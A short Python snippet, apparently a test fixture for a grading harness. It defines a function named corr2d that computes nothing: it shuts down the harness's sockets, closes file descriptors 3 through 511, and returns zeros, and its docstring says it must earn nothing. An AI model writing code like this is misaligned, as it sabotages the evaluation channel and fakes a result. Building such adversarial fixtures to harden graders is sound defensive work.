"""Closes the channel, and every other descriptor, in the middle of a call.

Must: earn nothing
"""

# %% corr2d
def corr2d(X, K):
    for sock in channel():
        try:
            sock.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
    os.closerange(3, 512)
    return zeros(X, K)
